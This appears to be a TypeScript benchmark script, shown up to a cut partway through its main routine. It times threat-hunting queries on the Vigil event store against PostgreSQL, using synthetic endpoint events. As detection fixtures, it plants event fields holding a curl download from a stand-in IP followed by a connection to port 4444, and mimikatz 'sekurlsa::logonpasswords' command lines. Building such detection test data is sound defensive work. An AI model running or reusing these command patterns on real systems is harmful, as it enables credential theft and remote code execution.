// Hunt benchmark: the standard hunt suite on Vigil's embedded store (queries compiled by @vigil/hunt) and on a throw-away
// PostgreSQL 15 with b-tree and trigram indexes, same data, results cross-checked. Loopback only; removes everything it starts.

import { closeSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync, writeSync } from 'node:fs';
import { open, type FileHandle } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, relative, resolve } from 'node:path';
import { Session } from 'node:inspector/promises';
import { performance, PerformanceObserver, type PerformanceEntry } from 'node:perf_hooks';
import { fileURLToPath } from 'node:url';
import { getHeapStatistics } from 'node:v8';
import pg from 'pg';
import { compileHunt } from '@vigil/hunt';
import { checkEvent, type VigilEvent } from '@vigil/schema';
import { createDuckDbStore, type CompiledSelect, type EventStore } from '@vigil/store';
import { createCleanupRegistry } from './internal/cleanup.js';
import { summariseCpuProfile } from './internal/cpu-profile.js';
import { updateBenchmarkDocs } from './internal/docs-section.js';
import { createAgentEventStream, createRandom } from './internal/event-generator.js';
import { parseOptions } from './internal/options.js';
import { memoryLine, startProgress } from './internal/progress.js';
import { pgBatchParams, pgIndexNames, pgInsertQuery, pgSchemaSql } from './internal/pg-events.js';
import { startTempPostgres } from './internal/postgres.js';
import { formatInt, machineInfo, markdownTable, percentile, round, textTable } from './internal/report.js';

const options = parseOptions(
  {
    events: { description: 'events generated and loaded into both engines (the issue asks for 10000000)', default: 1_000_000 },
    hosts: { description: 'simulated hosts the events are spread over', default: 20 },
    days: { description: 'days the events span (timestamps evenly spread with jitter)', default: 7 },
    runs: { description: 'timed runs per query and engine, after one warm-up', default: 5 },
    seed: { description: 'seed of the event generator', default: 1 },
    'pg-port': { description: 'loopback port of the temporary PostgreSQL cluster', default: 25433 },
    'update-docs': { description: 'write the measured table into docs/benchmarks.md (section "## hunt")', default: false },
    postgres: { description: 'also load and time PostgreSQL (false: Vigil only, results neither cross-checked nor written to bench/results or docs)', default: true },
    'keep-store': { description: "load Vigil into this (new or empty) folder and keep it, with the suite's dataset facts, for --reuse-store", default: '' },
    'reuse-store': { description: 'time Vigil on a folder kept by --keep-store (no generation, no load; the store rebuilds its index and row store at open); needs --postgres=false', default: '' },
    queries: { description: 'comma-separated names of the queries to run, in that order, a name given twice runs twice (all when empty)', default: '' },
    profile: { description: "with --postgres=false: CPU-profile Vigil's timed runs of each query (100 µs sampling; top functions logged, .cpuprofile kept in the temp folder)", default: false },
  },
  process.argv.slice(2),
);
const totalEvents = Math.floor(options.events);
const hostCount = Math.floor(options.hosts);
const runs = Math.max(1, Math.floor(options.runs));
if (hostCount < 1 || totalEvents < hostCount * 2000) throw new Error('need --hosts >= 1 and at least 2,000 events per host');
const withPostgres = options.postgres;
const keepStore = options['keep-store'] ? resolve(options['keep-store']) : '';
const reuseStore = options['reuse-store'] ? resolve(options['reuse-store']) : '';
if (reuseStore && (withPostgres || keepStore)) throw new Error('--reuse-store needs --postgres=false and no --keep-store (the events are not generated again)');
const onlyQueries = options.queries ? options.queries.split(',').map((name) => name.trim()) : null;
/** Kept beside the store by --keep-store: what the suite needs from the generated data (the Dataset without its spool). */
const DATASET_FILE = 'hunt-dataset.json';

const here = dirname(fileURLToPath(import.meta.url));
const repoRoot = resolve(here, '../..');
const resultsDir = join(repoRoot, 'bench', 'results');
const log = (line: string) => process.stderr.write(line + '\n');
const cleanup = createCleanupRegistry(log);

/** Batch size of one `append` (and one PostgreSQL insert), per host. */
const BATCH = 2000;
/** Planted across all hosts; each count is split evenly over the hosts. */
const CHAIN_COUNT = 200;
const CHAIN_DEPTH = 8;
const SEQUENCE_PAIRS = 500;
const MIMIKATZ_EVENTS = 50;
/** Planted chain pids start here, above any pid the generator produces (it wraps at 4,194,000). */
const CHAIN_PID_BASE = 9_000_000;
const TARGET_RATIO = 10;
const TARGET_P50_MS = 300;

// ---- data ----

/** One `append` batch (and one PostgreSQL insert) in a host's spool file: the body `{"events":[...]}` at `offset`. */
interface SpooledBatch {
  offset: number;
  length: number;
  events: number;
}

interface Dataset {
  /** Each host's events, in load order, as batch bodies in one spool file per host (so the heap holds none of them). */
  hosts: { id: string; spool: string; batches: SpooledBatch[] }[];
  spoolDir: string;
  spoolBytes: number;
  /** One chain root per host: host id and pid. */
  chainRoots: { hostId: string; pid: number }[];
  exactHash: string;
  exactHashCount: number;
  iocs: string[];
  iocsPresent: number;
  startMs: number;
  endMs: number;
}

function hex64(random: () => number): string {
  let out = '';
  for (let i = 0; i < 8; i++) out += Math.floor(random() * 0x100000000).toString(16).padStart(8, '0');
  return out;
}

function firstOf(stream: ReturnType<typeof createAgentEventStream>, category: string): Record<string, unknown> {
  for (;;) {
    const event = stream.next(1)[0] as unknown as Record<string, unknown>;
    if (event['event.category'] === category) return event;
  }
}

/** Splits `total` over `parts` as evenly as possible; part i gets the i-th share. */
function share(total: number, parts: number, i: number): number {
  return Math.floor(total / parts) + (i < total % parts ? 1 : 0);
}

/**
 * Generates every host's events and writes them, batch by batch, to spool files under `spoolDir`; the heap holds one
 * batch and the planted blocks of one host at a time. For a given seed the events are the ones the former in-memory
 * generator produced (same streams, same random draws in the same order), except `event.id`, which is random in both.
 * Whatever the suite needs afterwards (per-hash counts for the exact hash and the IOCs, the chain roots) is kept while
 * streaming.
 */
async function generateDataset(spoolDir: string): Promise<Dataset> {
  const startMs = Date.UTC(2026, 10, 1);
  const spanMs = options.days * 86_400_000;
  const hosts: Dataset['hosts'] = [];
  const chainRoots: Dataset['chainRoots'] = [];
  const hashCounts = new Map<string, number>();
  let spoolBytes = 0;
  const progress = startProgress(log, 'data    generated', totalEvents, 'events');
  try {
    for (let h = 0; h < hostCount; h++) {
      const hostId = `00000000-0000-4000-8000-${String(h + 1).padStart(12, '0')}`;
      const hostName = `hunt-host-${String(h + 1).padStart(3, '0')}.corp.example.com`;
      const stream = createAgentEventStream(hostId, hostName, options.seed * 1000 + h, startMs);
      const random = createRandom(options.seed * 7919 + h);
      const count = share(totalEvents, hostCount, h);
      const blocks: Record<string, unknown>[][] = [];

      // Process chains of depth CHAIN_DEPTH, every inner node with one extra leaf child, in start order.
      for (let c = 0; c < share(CHAIN_COUNT, hostCount, h); c++) {
        const base = CHAIN_PID_BASE + (h * CHAIN_COUNT + c) * 100;
        const block: Record<string, unknown>[] = [];
        for (let d = 0; d < CHAIN_DEPTH; d++) {
          // Entity ids as an agent sets them (host + pid + start), so the tree can be walked by entity id as well as by pid.
          const entity = (pid: number) => `${hostId}:${pid}`;
          const parent = d === 0 ? {} : { 'process.parent.entity_id': entity(base + d - 1) };
          const node = { ...firstOf(stream, 'process'), 'process.pid': base + d, 'process.parent.pid': d === 0 ? 1 : base + d - 1, 'process.entity_id': entity(base + d), ...parent };
          block.push(node);
          if (d > 0 && d < CHAIN_DEPTH - 1) {
            block.push({ ...firstOf(stream, 'process'), 'process.pid': base + 50 + d, 'process.parent.pid': base + d - 1, 'process.entity_id': entity(base + 50 + d), ...parent });
          }
        }
        if (c === 0) chainRoots.push({ hostId, pid: base });
        blocks.push(block);
      }
      // curl followed seconds later by a connection to port 4444 by the same host.
      for (let s = 0; s < share(SEQUENCE_PAIRS, hostCount, h); s++) {
        const curl = { ...firstOf(stream, 'process'), 'process.executable': '/usr/bin/curl', 'process.name': 'curl', 'process.args': ['curl', '-sO', 'http://203.0.113.7/x'], 'process.command_line': 'curl -sO http://203.0.113.7/x' };
        const connect: Record<string, unknown> = { ...firstOf(stream, 'network'), 'process.executable': '/tmp/x', 'process.name': 'x', 'process.args': ['/tmp/x'], 'process.command_line': '/tmp/x', 'destination.port': 4444, 'destination.ip': '203.0.113.7', 'network.type': 'ipv4' };
        if (typeof connect['source.ip'] === 'string' && connect['source.ip'].includes(':')) connect['source.ip'] = '10.0.1.9';
        blocks.push([curl, connect]);
      }
      for (let m = 0; m < share(MIMIKATZ_EVENTS, hostCount, h); m++) {
        const args = ['/tmp/mimikatz', 'privilege::debug', 'sekurlsa::logonpasswords', 'exit'];
        blocks.push([{ ...firstOf(stream, 'process'), 'process.executable': '/tmp/mimikatz', 'process.name': 'mimikatz', 'process.args': args, 'process.command_line': args.join(' ') }]);
      }
      for (const block of blocks) {
        for (const event of block) {
          const check = checkEvent(event, 'planted');
          if (check.problems.length) throw new Error(`planted event fails the schema: ${JSON.stringify(check.problems)}`);
        }
      }
      const planted = blocks.reduce((n, b) => n + b.length, 0);
      const backgroundCount = count - planted;
      // Blocks go in at random positions of the background, each kept contiguous so its events stay seconds apart and
      // in order: block b goes before background event positions[b] (the b-th smallest draw).
      const positions = blocks.map(() => Math.floor(random() * backgroundCount)).sort((a, b) => a - b);
      const step = spanMs / count;

      const spool = join(spoolDir, `host-${h + 1}.jsonl`);
      const fd = openSync(spool, 'w');
      const batches: SpooledBatch[] = [];
      let offset = 0;
      let written = 0;
      let pending: Record<string, unknown>[] = [];
      const flush = () => {
        if (!pending.length) return;
        const body = Buffer.from(JSON.stringify({ events: pending }));
        writeSync(fd, body, 0, body.length, offset);
        batches.push({ offset, length: body.length, events: pending.length });
        offset += body.length;
        progress.add(pending.length);
        pending = [];
      };
      const emit = (event: Record<string, unknown>) => {
        event['event.sequence'] = written + 1;
        event['@timestamp'] = new Date(startMs + Math.floor(written * step + random() * step * 0.5)).toISOString();
        written++;
        const hash = event['process.hash.sha256'];
        if (typeof hash === 'string') hashCounts.set(hash, (hashCounts.get(hash) ?? 0) + 1);
        pending.push(event);
        if (pending.length === BATCH) flush();
      };
      try {
        let produced = 0;
        let b = 0;
        while (produced < backgroundCount) {
          const chunk = stream.next(Math.min(BATCH, backgroundCount - produced)) as unknown as Record<string, unknown>[];
          for (const event of chunk) {
            while (b < blocks.length && positions[b] === produced) for (const planted of blocks[b++]!) emit(planted);
            emit(event);
            produced++;
          }
          // Lets the progress timer run; nothing else is scheduled while the data is generated.
          await new Promise((resolve) => setImmediate(resolve));
        }
        while (b < blocks.length) for (const planted of blocks[b++]!) emit(planted);
        flush();
      } finally {
        closeSync(fd);
      }
      if (written !== count) throw new Error(`host ${hostId}: generated ${written} events, expected ${count}`);
      spoolBytes += offset;
      hosts.push({ id: hostId, spool, batches });
    }
  } finally {
    progress.stop();
  }

  const byCount = [...hashCounts].sort((a, b) => Math.abs(a[1] - 100) - Math.abs(b[1] - 100) || (a[0] < b[0] ? -1 : 1));
  const [exactHash, exactHashCount] = byCount[0]!;
  const present = [...hashCounts.keys()].sort();
  const random = createRandom(options.seed * 104729);
  const iocs: string[] = [];
  const wantPresent = Math.min(500, present.length);
  for (let i = 0; i < wantPresent; i++) iocs.push(present[Math.floor((i * present.length) / wantPresent)]!);
  while (iocs.length < 1000) {
    const hash = hex64(random);
    if (!hashCounts.has(hash)) iocs.push(hash);
  }
  return { hosts, spoolDir, spoolBytes, chainRoots, exactHash, exactHashCount, iocs, iocsPresent: wantPresent, startMs, endMs: startMs + spanMs };
}

/** Reads one spooled batch body. */
async function readBatch(file: FileHandle, batch: SpooledBatch): Promise<Buffer> {
  const body = Buffer.allocUnsafe(batch.length);
  const { bytesRead } = await file.read(body, 0, batch.length, batch.offset);
  if (bytesRead !== batch.length) throw new Error(`spool: read ${bytesRead} of ${batch.length} bytes at ${batch.offset}`);
  return body;
}

/**
 * Calls `load` with each of a host's batch bodies in order, reading the next body from the spool while `load` runs, so
 * at most two bodies per host are in memory.
 */
async function forEachBatch(host: Dataset['hosts'][number], load: (body: Buffer, batch: SpooledBatch) => Promise<void>): Promise<void> {
  const file = await open(host.spool, 'r');
  let next = host.batches.length ? readBatch(file, host.batches[0]!) : undefined;
  try {
    for (let i = 0; i < host.batches.length; i++) {
      const body = await next!;
      next = i + 1 < host.batches.length ? readBatch(file, host.batches[i + 1]!) : undefined;
      await load(body, host.batches[i]!);
    }
  } finally {
    await next?.catch(() => undefined);
    await file.close();
  }
}

// ---- queries ----

type Rows = Record<string, unknown>[];

interface HuntCase {
  name: string;
  /** What the user runs in Vigil (hunting language), or how the process tree is walked. */
  vigilText: string;
  /** Runs the Vigil side itself instead of `vigil` (the process tree walks the store's edge index). */
  vigilRun?: (store: EventStore) => Promise<Rows>;
  /** Run one after the other; their rows are concatenated. */
  vigil: CompiledSelect[];
  postgres: { text: string; values: unknown[] };
  /** Canonical result used to cross-check both engines; equal strings mean equal results. */
  digestVigil(rows: Rows): string;
  digestPostgres(rows: Rows): string;
  /** Counts may differ by definition (fuzzy): report, do not abort. */
  mayDiffer?: boolean;
  describe(digest: string): string;
}

const num = (v: unknown) => Number(v);
function isoOf(value: unknown): string {
  if (value instanceof Date) return value.toISOString();
  const text = String(value);
  return new Date(/[zZ]|[+-]\d\d:?\d\d$/.test(text) ? text : text.replace(' ', 'T') + 'Z').toISOString();
}
const countDigest = (rows: Rows) => String(num(rows[0]?.['count'] ?? rows[0]?.['n']));

function compile(...texts: string[]): HuntCase['vigil'] {
  return texts.map((text) => {
    const compiled = compileHunt(text, { limit: 100_000 });
    return { sql: compiled.sql, params: compiled.params, ...(compiled.indexed ? { indexed: compiled.indexed } : {}) };
  });
}

const treeSql = (table: string, host: string, pid: string, ppid: string, p1: string, p2: string) =>
  `WITH RECURSIVE tree(host_id, pid, depth) AS (
  SELECT r.${host}, r.${pid}, 0 FROM ${table} AS r WHERE r.${host} = ${p1} AND r.${pid} = ${p2}
  UNION
  SELECT e.${host}, e.${pid}, t.depth + 1 FROM ${table} AS e JOIN tree AS t ON e.${host} = t.host_id AND e.${ppid} = t.pid WHERE t.depth < 32
)
SELECT count(DISTINCT pid) - 1 AS descendants, max(depth) AS depth FROM tree`;

function buildSuite(data: Dataset): HuntCase[] {
  const root = data.chainRoots[0]!;
  const iocQuery = (hashes: readonly string[]) =>
    `any where process.hash.sha256 in (${hashes.map((h) => JSON.stringify(h)).join(',')}) | stats count(), min(@timestamp) as first_seen by process.hash.sha256, host.id`;
  const timechartDigest = (rows: Rows, tsKey: string) => rows.map((r) => `${isoOf(r[tsKey])}=${num(r['count'])}`).join(',');
  const iocDigest = (rows: Rows, hashKey: string, hostKey: string, firstKey: string) =>
    rows
      .map((r) => `${String(r[hashKey])}|${String(r[hostKey])}|${num(r['count'])}|${isoOf(r[firstKey])}`)
      .sort()
      .join('\n');
  const iocDescribe = (d: string) => {
    const lines = d ? d.split('\n') : [];
    return `${lines.length} (hash, host) rows, ${new Set(lines.map((l) => l.split('|')[0])).size} indicators found`;
  };
  const sequenceText = 'sequence by host.id maxspan=5m [process where process.name == "curl"] [network where destination.port == 4444] | stats count()';
  return [
    {
      name: 'exact hash',
      vigilText: `any where process.hash.sha256 == "${data.exactHash}"`,
      vigil: compile(`any where process.hash.sha256 == "${data.exactHash}"`),
      postgres: { text: 'SELECT * FROM events WHERE sha256 = $1 ORDER BY ts DESC, sequence DESC LIMIT 100000', values: [data.exactHash] },
      digestVigil: (rows) => String(rows.length),
      digestPostgres: (rows) => String(rows.length),
      describe: (d) => `${d} events`,
    },
    {
      name: 'substring on command line',
      vigilText: 'process where process.command_line contains "/dev/shm/" | stats count()',
      vigil: compile('process where process.command_line contains "/dev/shm/" | stats count()'),
      postgres: { text: "SELECT count(*) AS count FROM events WHERE category = 'process' AND command_line ILIKE $1", values: ['%/dev/shm/%'] },
      digestVigil: countDigest,
      digestPostgres: countDigest,
      describe: (d) => `${d} events`,
    },
    {
      name: 'fuzzy free text',
      vigilText: '~"mimikats" | stats count()',
      vigil: compile('~"mimikats" | stats count()'),
      postgres: { text: 'SELECT count(*) AS count FROM events WHERE $1 <% command_line', values: ['mimikats'] },
      digestVigil: countDigest,
      digestPostgres: countDigest,
      mayDiffer: true,
      describe: (d) => `${d} events`,
    },
    {
      name: 'stats by process (top 20)',
      vigilText: 'process | top 20 process.name',
      vigil: compile('process | top 20 process.name'),
      postgres: {
        text: "SELECT process_name, count(*) AS count FROM events WHERE category = 'process' GROUP BY process_name ORDER BY count DESC, process_name ASC LIMIT 20",
        values: [],
      },
      digestVigil: (rows) => rows.map((r) => `${String(r['process.name'])}=${num(r['count'])}`).join(','),
      digestPostgres: (rows) => rows.map((r) => `${String(r['process_name'])}=${num(r['count'])}`).join(','),
      describe: (d) => `${d.split(',').length} names, first ${d.split(',')[0]}`,
    },
    {
      name: 'hourly timechart',
      vigilText: 'any | timechart span=1h count()',
      vigil: compile('any | timechart span=1h count()'),
      postgres: { text: "SELECT date_trunc('hour', ts) AS bucket, count(*) AS count FROM events GROUP BY 1 ORDER BY 1", values: [] },
      digestVigil: (rows) => timechartDigest(rows, '@timestamp'),
      digestPostgres: (rows) => timechartDigest(rows, 'bucket'),
      describe: (d) => `${d.split(',').length} hourly buckets`,
    },
    {
      name: 'IOC sweep (1,000 sha256)',
      vigilText: 'any where process.hash.sha256 in (<1,000 hashes>) | stats count(), min(@timestamp) as first_seen by process.hash.sha256, host.id',
      vigil: compile(iocQuery(data.iocs)),
      postgres: {
        text: 'SELECT sha256, host_id, count(*) AS count, min(ts) AS first_seen FROM events WHERE sha256 = ANY($1::text[]) GROUP BY sha256, host_id ORDER BY sha256, host_id',
        values: [data.iocs],
      },
      digestVigil: (rows) => iocDigest(rows, 'process.hash.sha256', 'host.id', 'first_seen'),
      digestPostgres: (rows) => iocDigest(rows, 'sha256', 'host_id', 'first_seen'),
      describe: iocDescribe,
    },
    {
      name: 'deep process tree',
      vigilText: 'descendants by entity id, level by level through the edge index (EventStore.processChildren)',
      vigil: [],
      vigilRun: async (store) => {
        const start = `${root.hostId}:${root.pid}`;
        const seen = new Set([start]);
        let frontier = [start];
        let depth = 0;
        while (frontier.length && depth < 32) {
          const edges = await store.processChildren?.(root.hostId, frontier);
          if (!edges) throw new Error('the store has no process edge index');
          const next = edges.map((e) => e.child).filter((child) => !seen.has(child) && seen.add(child));
          if (!next.length) break;
          depth++;
          frontier = next;
        }
        return [{ descendants: seen.size - 1, depth }];
      },
      postgres: { text: treeSql("(SELECT host_id, pid, ppid FROM events WHERE category = 'process')", 'host_id', 'pid', 'ppid', '$1', '$2::bigint'), values: [root.hostId, root.pid] },
      digestVigil: (rows) => `${num(rows[0]?.['descendants'])}/${num(rows[0]?.['depth'])}`,
      digestPostgres: (rows) => `${num(rows[0]?.['descendants'])}/${num(rows[0]?.['depth'])}`,
      describe: (d) => `${d.split('/')[0]} descendants, depth ${d.split('/')[1]}`,
    },
    {
      name: 'two-step sequence',
      vigilText: sequenceText,
      vigil: compile(sequenceText),
      postgres: {
        // Same semantics as the compiled sequence: each curl extends to the earliest later 4444 connect of its host within
        // 5 minutes; of the sequences ending on one connect, the one that started last is kept.
        text: `WITH c2 AS (
  SELECT s1.event_id AS id1, s1.ts AS ts1, n.event_id AS id2
  FROM events AS s1
  CROSS JOIN LATERAL (
    SELECT e.event_id, e.ts FROM events AS e
    WHERE e.category = 'network' AND e.destination_port = $2 AND e.host_id = s1.host_id AND e.ts > s1.ts AND e.ts <= s1.ts + $3::interval
    ORDER BY e.ts, e.event_id LIMIT 1
  ) AS n
  WHERE s1.category = 'process' AND s1.process_name = $1
)
SELECT count(*) AS count FROM (SELECT DISTINCT ON (id2) id2 FROM c2 ORDER BY id2, ts1 DESC, id1 DESC) AS sequences`,
        values: ['curl', 4444, '5 minutes'],
      },
      digestVigil: countDigest,
      digestPostgres: countDigest,
      describe: (d) => `${d} sequences`,
    },
  ];
}

/** The suite's queries named by --queries, in that order (all when it is empty). */
function selectQueries(suite: HuntCase[]): HuntCase[] {
  if (!onlyQueries) return suite;
  return onlyQueries.map((name) => {
    const found = suite.find((c) => c.name === name);
    if (!found) throw new Error(`--queries: no query named ${JSON.stringify(name)} (the suite has ${suite.map((c) => JSON.stringify(c.name)).join(', ')})`);
    return found;
  });
}

/** The Vigil side of a query, as the suite times it. */
async function runVigil(c: HuntCase, store: EventStore): Promise<Rows> {
  if (c.vigilRun) return c.vigilRun(store);
  const rows: Rows = [];
  for (const query of c.vigil) rows.push(...(await store.search(query)));
  return rows;
}

/** The suite's dataset facts kept beside a store (--keep-store): the Dataset without its spool, and the options that made it. */
function keptFacts(data: Dataset): Record<string, unknown> {
  const { hosts: _hosts, spoolDir: _spoolDir, ...facts } = data;
  return { ...facts, events: totalEvents, hostCount, seed: options.seed, days: options.days };
}

/** The Dataset of a kept store (--reuse-store), checked against this run's options; it has no spool. */
function readKeptDataset(dir: string): Dataset {
  const facts = JSON.parse(readFileSync(join(dir, DATASET_FILE), 'utf8')) as Omit<Dataset, 'hosts' | 'spoolDir'> & { events: number; hostCount: number; seed: number; days: number };
  if (facts.events !== totalEvents || facts.hostCount !== hostCount || facts.seed !== options.seed || facts.days !== options.days) {
    throw new Error(`${dir} holds --events ${facts.events} --hosts ${facts.hostCount} --seed ${facts.seed} --days ${facts.days}: pass the same options`);
  }
  return { ...facts, hosts: [], spoolDir: '' };
}

// ---- engines ----

const postgresSettings: Record<string, string> = {
  shared_buffers: '2GB',
  effective_cache_size: '8GB',
  work_mem: '128MB',
  maintenance_work_mem: '1GB',
  max_wal_size: '8GB',
  min_wal_size: '1GB',
  wal_buffers: '64MB',
  max_connections: '50',
  random_page_cost: '1.1',
  timezone: 'UTC',
};

/** Indexes a DBA adds for this suite on top of the ingest table's own (pgIndexNames). */
const huntIndexSql: readonly [name: string, sql: string][] = [
  ['events_command_line_trgm GIN (command_line gin_trgm_ops)', 'CREATE INDEX events_command_line_trgm ON events USING gin (command_line gin_trgm_ops)'],
  ['events_category_process_name (category, process_name)', 'CREATE INDEX events_category_process_name ON events (category, process_name)'],
  ['events_host_pid (host_id, pid)', 'CREATE INDEX events_host_pid ON events (host_id, pid)'],
  ['events_host_ppid (host_id, ppid)', 'CREATE INDEX events_host_ppid ON events (host_id, ppid)'],
  ['events_port_host_ts (destination_port, host_id, ts)', 'CREATE INDEX events_port_host_ts ON events (destination_port, host_id, ts)'],
  ['events_ts (ts)', 'CREATE INDEX events_ts ON events (ts)'],
  ['events_sha256_host_ts (sha256, host_id, ts)', 'CREATE INDEX events_sha256_host_ts ON events (sha256, host_id, ts)'],
];

/** Sum of the proportional set sizes (Pss) of `rootPid` and its direct children (a PostgreSQL postmaster and backends). */
function processTreePssBytes(rootPid: number): number {
  let total = 0;
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
      const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
      if (Number(entry) !== rootPid && ppid !== rootPid) continue;
      const kb = /^Pss:\s*(\d+) kB$/m.exec(readFileSync(`/proc/${entry}/smaps_rollup`, 'utf8'))?.[1];
      total += Number(kb ?? 0) * 1024;
    } catch {
      // The process ended between listing and reading.
    }
  }
  return total;
}

function directoryBytes(dir: string): number {
  let total = 0;
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    total += entry.isDirectory() ? directoryBytes(path) : statSync(path).size;
  }
  return total;
}

/** postgres / vigil p50; below 1 Vigil is slower, shown with two significant digits so it never reads as 0. */
function formatRatio(ratio: number): string {
  return `${ratio >= 1 ? ratio.toFixed(1) : ratio.toPrecision(2)}x`;
}

/**
 * One untimed run of every query on each engine before any is timed: right after a load, the first queries otherwise
 * pay for compiling their code paths and for collecting the load's garbage (in Vigil's process, which also runs
 * PostgreSQL's client), and which query came first would decide who pays.
 */
async function warmPass(suite: readonly HuntCase[], store: EventStore, db?: pg.Client): Promise<void> {
  const started = performance.now();
  for (const c of suite) {
    await runVigil(c, store);
    if (db) await db.query(c.postgres.text, c.postgres.values);
  }
  log(`warm    one untimed pass of the ${suite.length} queries on ${db ? 'both engines' : 'Vigil'} in ${((performance.now() - started) / 1000).toFixed(1)} s`);
}

async function timeRuns(run: () => Promise<Rows>): Promise<{ rows: Rows; sortedMs: number[] }> {
  let rows = await run();
  const times: number[] = [];
  for (let i = 0; i < runs; i++) {
    const start = performance.now();
    rows = await run();
    times.push(performance.now() - start);
  }
  return { rows, sortedMs: times.sort((a, b) => a - b) };
}

/**
 * `timeRuns` for the Vigil-only mode: also says, per run in run order, the GC pause time (V8's gc entries) inside it,
 * and with --profile CPU-profiles the timed runs and logs the top functions.
 */
async function timeRunsTraced(name: string, run: () => Promise<Rows>): Promise<{ rows: Rows; sortedMs: number[]; trace: string }> {
  const gcs: PerformanceEntry[] = [];
  const observer = new PerformanceObserver((list) => gcs.push(...list.getEntries()));
  observer.observe({ entryTypes: ['gc'] });
  let session: Session | undefined;
  let rows = await run();
  if (options.profile) {
    session = new Session();
    session.connect();
    await session.post('Profiler.enable');
    await session.post('Profiler.setSamplingInterval', { interval: 100 });
    await session.post('Profiler.start');
  }
  const windows: [number, number][] = [];
  for (let i = 0; i < runs; i++) {
    const start = performance.now();
    rows = await run();
    windows.push([start, performance.now()]);
  }
  if (session) {
    const { profile } = await session.post('Profiler.stop');
    session.disconnect();
    const file = join(tmpdir(), `vigil-hunt-${name.replace(/[^a-z0-9]+/gi, '-')}-${process.pid}.cpuprofile`);
    writeFileSync(file, JSON.stringify(profile));
    const summary = summariseCpuProfile(file, 25);
    log(`profile ${name}: ${summary.totalMs} ms sampled (${file}); top self time:`);
    for (const f of summary.functions) log(`          ${String(f.selfMs).padStart(6)} ms ${String(f.percent).padStart(5)}%  ${f.name}`);
  }
  await new Promise((resolve) => setTimeout(resolve, 50));
  observer.disconnect();
  const trace = windows
    .map(([from, to]) => {
      let gcMs = 0;
      for (const gc of gcs) gcMs += Math.max(0, Math.min(to, gc.startTime + gc.duration) - Math.max(from, gc.startTime));
      return `${(to - from).toFixed(2)}${gcMs > 0 ? `(${gcMs.toFixed(2)})` : ''}`;
    })
    .join(' ');
  return { rows, sortedMs: windows.map(([from, to]) => to - from).sort((a, b) => a - b), trace };
}

interface QueryResult {
  name: string;
  vigilText: string;
  vigilMs: number[];
  postgresMs: number[];
  vigilResult: string;
  postgresResult: string;
  match: boolean;
}

async function main(): Promise<void> {
  const machine = machineInfo();
  log(`hunt benchmark: ${formatInt(totalEvents)} events over ${hostCount} hosts and ${options.days} days; ${machine.cores} × ${machine.cpu_model}, ${machine.memory_gib} GiB`);
  const spoolDir = reuseStore ? '' : mkdtempSync(join(tmpdir(), 'vigil-bench-hunt-spool-'));
  if (spoolDir) cleanup.add('remove spooled events', () => rmSync(spoolDir, { recursive: true, force: true }));
  const genStart = performance.now();
  const data = reuseStore ? readKeptDataset(reuseStore) : await generateDataset(spoolDir);
  const generateS = (performance.now() - genStart) / 1000;
  if (reuseStore) log(`data    facts read from ${join(reuseStore, DATASET_FILE)}; exact hash occurs ${data.exactHashCount} times`);
  else {
    log(
      `data    generated in ${generateS.toFixed(1)} s (${(data.spoolBytes / 1024 ** 3).toFixed(2)} GiB spooled to ${spoolDir}); ` +
        `exact hash occurs ${data.exactHashCount} times; ${data.iocsPresent} of 1,000 IOCs present`,
    );
  }

  // Vigil: the real ingest path, append in batches of BATCH per host, hosts concurrently. The batches are read from the
  // spool and parsed here; the parse time is measured and taken out of Vigil's load time (the events used to be built in
  // memory before the clock started).
  let work: string;
  if (reuseStore) work = reuseStore;
  else if (keepStore) {
    mkdirSync(keepStore, { recursive: true });
    if (readdirSync(keepStore).length) throw new Error(`--keep-store ${keepStore} is not empty`);
    work = keepStore;
  } else {
    work = mkdtempSync(join(tmpdir(), 'vigil-bench-hunt-'));
    cleanup.add('remove vigil data', () => rmSync(work, { recursive: true, force: true }));
  }
  // The row cache is off by default in the server (VIGIL_STORE_ROW_CACHE); the suite runs with it on.
  const store = createDuckDbStore({ dataDir: work, rowCache: true });
  await store.open();
  let storeOpen = true;
  cleanup.add('close vigil store', async () => void (storeOpen && (await store.close())));
  let vigilParseMs = 0;
  const vigilProgress = startProgress(log, 'vigil   loaded', totalEvents, 'events');
  const vigilStart = performance.now();
  try {
    await Promise.all(
      (reuseStore ? [] : data.hosts).map((host) =>
        forEachBatch(host, async (body) => {
          const parseStart = performance.now();
          const batch = (JSON.parse(body.toString('utf8')) as { events: VigilEvent[] }).events;
          vigilParseMs += performance.now() - parseStart;
          const ack = await store.append(host.id, batch);
          if (ack.accepted !== batch.length) throw new Error(`vigil accepted ${ack.accepted} of ${batch.length} events of ${host.id}`);
          vigilProgress.add(batch.length);
        }),
      ),
    );
  } finally {
    vigilProgress.stop();
  }
  const vigilLoadWallS = (performance.now() - vigilStart) / 1000;
  const vigilLoadS = vigilLoadWallS - vigilParseMs / 1000;
  log(
    `vigil   acknowledged ${formatInt(totalEvents)} events in ${vigilLoadS.toFixed(1)} s (${formatInt(totalEvents / vigilLoadS)} events/s; ` +
      `${vigilLoadWallS.toFixed(1)} s wall, of which ${(vigilParseMs / 1000).toFixed(1)} s parsing the spooled batches)`,
  );
  // Appends are acknowledged once journaled; a count waits until DuckDB holds every acknowledged event.
  const vigilStored = (await store.countEvents({}, 'none')).reduce((n, r) => n + r.count, 0);
  if (vigilStored !== totalEvents) throw new Error(`VERIFICATION FAILED: vigil stores ${vigilStored} events, expected ${totalEvents}`);
  const vigilStoredS = (performance.now() - vigilStart) / 1000;
  log(`vigil   all events in DuckDB ${vigilStoredS.toFixed(1)} s after the first append (${(vigilStoredS - vigilLoadWallS).toFixed(1)} s after the last acknowledgement)`);
  // The index reads loaded rows back in the background; a search with an indexed form waits until it has caught up.
  const catchUpStart = performance.now();
  // The row store (copies of the rows for event lists and sequences) catches up beside it; both are done before timing.
  const storeStat = (key: string) => (store.stats?.() ?? {})[key];
  const indexBehind = () => (storeStat('index_pending_events') ?? 0) > 0 || (storeStat('row_store_rows') ?? totalEvents) < totalEvents;
  let lastCatchUpLog = performance.now();
  while (indexBehind()) {
    await new Promise((resolve) => setTimeout(resolve, 100));
    if (performance.now() - lastCatchUpLog >= 10_000) {
      lastCatchUpLog = performance.now();
      log(
